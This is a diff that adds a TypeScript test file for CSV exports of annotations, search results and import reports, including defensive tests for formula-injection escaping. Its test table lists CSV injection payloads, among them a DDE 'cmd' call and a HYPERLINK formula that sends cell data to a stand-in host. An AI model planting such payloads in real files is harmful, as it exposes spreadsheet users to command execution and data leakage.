@@ -1,0 +1,179 @@
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, test } from 'vitest';
+import { toCommaSeparated } from '../../src/core/exchange/comma-separated.ts';
+import { toCsv } from '../../src/core/exchange/csv.ts';
+import { chooseEvidence } from '../../src/core/exchange/evidence.ts';
+import { hitsToCsv } from '../../src/core/exchange/hits-csv.ts';
+import { importReportToCsv } from '../../src/core/exchange/import-report.ts';
+import { builtInAttributes } from '../../src/core/model/records.ts';
+import { materialOf, sampleMaterial } from './exchange-material.ts';
+import { projects, strings } from './exchange-projects.ts';
+
+// What another program reads is the claim, so the files are read back with Papa Parse.
+
+const rowsOf = (csv: string): string[][] =>
+  Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', delimiter: ',' }).data.slice(0, -1);
+const recordsOf = (csv: string): Record<string, string>[] =>
+  Papa.parse<Record<string, string>>(csv.slice(1), {
+    header: true,
+    newline: '\r\n',
+    delimiter: ',',
+    skipEmptyLines: true,
+  }).data;
+
+describe('comma-separated values', () => {
+  test('begin with a byte-order mark and end each row with CRLF', () => {
+    expect(toCommaSeparated(['a', 'b'], [['один', 2]])).toBe('\ufeffa,b\r\nодин,2\r\n');
+  });
+
+  test('are read back as they were, whatever the cells hold, but for the apostrophe before a formula', () => {
+    fc.assert(
+      fc.property(fc.array(fc.tuple(strings, strings, fc.nat()), { maxLength: 5 }), (rows) => {
+        const read = rowsOf(toCommaSeparated(['x', 'y', 'z'], rows)).slice(1);
+        expect(
+          read.map((row) => row.map((cell, at) => (at < 2 && cell.startsWith("'") ? cell.slice(1) : cell))),
+        ).toEqual(
+          rows.map((row) =>
+            row.map((cell) => (typeof cell === 'string' && cell.startsWith("'") ? cell.slice(1) : String(cell))),
+          ),
+        );
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test.each([
+    ['=cmd|"/c calc"!A1'],
+    ['+1+cmd'],
+    ['-2+3'],
+    ['@SUM(A1)'],
+    ['\t=1'],
+    ['\r=1'],
+    ['\n=1'],
+    [' =1'],
+    ['\u200b=1'],
+    ['\ufeff=1'],
+    ['\0=1'],
+    ['＝1+1'],
+    ['＋1'],
+    ['－1+1'],
+    ['＠SUM(1)'],
+    ['−1+1'],
+    ['=HYPERLINK("https://x.example?"&A1,"click")'],
+  ])('take the formula out of %j', (cell) => {
+    expect(rowsOf(toCommaSeparated(['x'], [[cell]]))[1]).toEqual([`'${cell}`]);
+  });
+
+  test.each([['-5'], ['+3.5'], ['-0,25'], ['a = b'], ['5-3'], ['me@x.example'], ['–'], ['— so it goes']])(
+    'leave %j alone',
+    (cell) => {
+      expect(rowsOf(toCommaSeparated(['x'], [[cell]]))[1]).toEqual([cell]);
+    },
+  );
+});
+
+describe('evidence as CSV', () => {
+  test('has one row for each quotation and tag, and one for a quotation without', () => {
+    const rows = recordsOf(toCsv(chooseEvidence(sampleMaterial, { kind: 'project' })));
+    const { annotations } = sampleMaterial;
+    expect(rows).toHaveLength(annotations.reduce((sum, { tagIds }) => sum + Math.max(1, tagIds.length), 0));
+    expect(rows.filter(({ tag }) => tag === '').map(({ quotation }) => quotation)).toEqual([
+      'машины выехали лишь в 5:40',
+    ]);
+    expect(rows.find(({ quotation }) => quotation!.startsWith('The log of the ferry'))).toEqual({
+      document: 'Eleven dead at Silo Four: a town counts its night shift',
+      path: 'orvella-courier-2023-03-15.txt',
+      language: 'en',
+      date: '2023-03-15',
+      outlet: 'The Orvella Courier',
+      author: 'Tamsin Okerell',
+      place: 'Orvella',
+      url: 'https://orvella-courier.example/2023/03/15/silo-four',
+      quotation: 'The log of the ferry company notes a "loud report from north quay" at 4:12.',
+      tag: 'Event/Time',
+      note: 'The only time that was written down when it happened.',
+      passage: '6',
+      passages: '10',
+      line: '12',
+      percent: '47',
+      version: '1',
+      from: '671',
+      to: '746',
+      'from (code points)': '671',
+      'to (code points)': '746',
+      anchor: 'exact',
+      'annotated by': 'Lectern',
+      annotated: '2026-01-15T09:00:00.000Z',
+      changed: '2026-01-15T09:00:00.000Z',
+      'annotation id': expect.stringMatching(/^\w{20}$/),
+      'document id': expect.stringMatching(/^\w{20}$/),
+    });
+  });
+
+  test('tells an attribute from a column of the same name', () => {
+    const attributes = [...builtInAttributes, { ...builtInAttributes[0]!, id: 'x', name: 'Note', order: 9 }];
+    const [header] = rowsOf(toCsv(chooseEvidence({ ...sampleMaterial, attributes }, { kind: 'project' })));
+    expect(header).toContain('Note (2)');
+    expect(new Set(header).size).toBe(header!.length);
+  });
+
+  test('has no cell that a spreadsheet takes for a formula, whatever the project holds', () => {
+    fc.assert(
+      fc.property(projects, (content) => {
+        const cells = rowsOf(toCsv(chooseEvidence(materialOf(content), { kind: 'project' }))).flat();
+        expect(cells.filter((cell) => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]\d+$/.test(cell))).toEqual([]);
+      }),
+    );
+  });
+});
+
+test('search results as CSV name the passage, its matches and its document', () => {
+  const [document] = sampleMaterial.documents;
+  const text = sampleMaterial.texts.get(document!.id)!;
+  const from = text.indexOf('The blast');
+  const noon = text.indexOf('noon');
+  const passage = { document: document!, version: 1, passage: 2, from, to: text.indexOf('\n', from) };
+  const hit = {
+    ...passage,
+    text: text.slice(from, passage.to),
+    matches: [
+      { from: from + 4, to: from + 9 },
+      { from: noon, to: noon + 4 },
+    ],
+  };
+  expect(recordsOf(hitsToCsv([hit], builtInAttributes))).toMatchObject([
+    { document: document!.title.value, outlet: 'Lantern Wire', passage: '3', matches: '2', matched: 'blast | noon' },
+  ]);
+});
+
+test('an import report as CSV names every file, its outcome and the reason', () => {
+  const run = {
+    id: 'i',
+    name: 'Archiv',
+    source: 'folder',
+    started: '2026-01-01T00:00:00.000Z',
+    finished: null,
+    state: 'done',
+  } as const;
+  const version = sampleMaterial.documents[0]!.versions[0]!;
+  const csv = importReportToCsv(
+    run,
+    [
+      { path: 'статья.txt', bytes: 10, kind: 'imported', documentId: 'd' },
+      { path: '=2+2.txt', bytes: 0, kind: 'skipped', reason: 'empty' },
+      { path: 'a\nb.txt', bytes: 5, kind: 'failed', reason: 'no-permission', detail: 'EACCES' },
+      { path: 'copy.txt', bytes: 10, kind: 'duplicate', documentId: 'd', version, kept: null },
+      { path: 'new.txt', bytes: 12, kind: 'new-version', documentId: 'd', version: 2 },
+    ],
+    new Map([['d', 'Статья']]),
+  );
+  expect(rowsOf(csv).map((row) => row.slice(0, 6))).toEqual([
+    ['path', 'outcome', 'reason', 'detail', 'bytes', 'document'],
+    ['статья.txt', 'imported', '', '', '10', 'Статья'],
+    ["'=2+2.txt", 'skipped', 'empty', '', '0', ''],
+    ['a\nb.txt', 'failed', 'no-permission', 'EACCES', '5', ''],
+    ['copy.txt', 'duplicate', 'same-text', '', '10', 'Статья'],
+    ['new.txt', 'new-version', '', 'version 2', '12', 'Статья'],
+  ]);
+});
